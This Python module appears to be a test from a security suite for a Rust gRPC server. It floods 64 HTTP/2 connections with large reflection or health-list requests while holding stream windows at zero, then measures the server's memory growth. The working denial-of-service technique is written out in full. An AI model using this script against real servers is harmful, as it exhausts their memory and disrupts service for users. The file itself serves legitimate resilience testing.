"""S23: small questions with large answers, which nobody takes, from 64 connections at once.

    cargo build --release --features reflection --example bench_server

tonic-health has no List, and the server with tonic no reflection: they answer UNIMPLEMENTED.
"""

import select
import struct
import time

from attacks.echo import Echo
from attacks.timers import Many
from peer import DATA, HEADERS, RST, WINDOW, Peer, block, call, frame

CONNECTIONS, STREAMS = 64, 256
SECONDS = 40
REFLECTION = "grpc.reflection.v1.ServerReflection"


class Reflecting(Echo):
    """A server with a file of 1 MiB."""

    def __init__(self, which, *options):
        super().__init__(which, *options, "--reflection")


def question(stream):
    """Asks for the file, and leaves the stream open for more questions."""
    name = b"large.proto"
    request = b"\x1a" + bytes([len(name)]) + name
    head = frame(HEADERS, 4, stream, block("ServerReflectionInfo", of=REFLECTION))
    return head + frame(DATA, 0, stream, b"\0" + struct.pack(">I", len(request)) + request)


def unread(server, ask):
    """All ask at once, with windows of 0: what the server holds, and how many calls it ends."""
    peers, ended, held, start = [], set(), [], time.monotonic()

    def watch(peer):
        def seen(kind, flags, stream, payload):
            if kind == RST or kind == HEADERS and flags & 1:
                ended.add((peer, stream))
        return seen

    before = server.memory("VmRSS")
    for _ in range(CONNECTIONS):
        peer = Peer(server, struct.pack(">HI", 4, 0))
        peer.seen = watch(peer)
        peer.send(frame(WINDOW, 0, 0, struct.pack(">I", 0x7fffffff - 65_535)))
        peer.send(b"".join(ask(1 + 2 * n) for n in range(STREAMS)))
        peers.append(peer)
    while time.monotonic() < start + SECONDS:
        for readable in select.select([peer.socket for peer in peers if not peer.closed], [], [], 0.1)[0]:
            next(peer for peer in peers if peer.socket is readable).receive(0)
        held.append(server.memory("VmRSS") - before)
    closed = sum(peer.closed or peer.code is not None for peer in peers)
    return (f"{CONNECTIONS} connections of {STREAMS} calls: RSS +{max(held) / 1024:.1f} MiB at most, {held[-1] / 1024:.1f} at the end; "
            f"{len(ended):,} calls ended, {closed} connections closed in {SECONDS} s")


ATTACKS = {
    "S23 unread Lists": lambda s: unread(s, lambda stream: call(stream, "List")),
    "S23 unread answers of reflection": lambda s: unread(s, question),
}
SERVERS = {"S23 unread Lists": Many, "S23 unread answers of reflection": Reflecting}
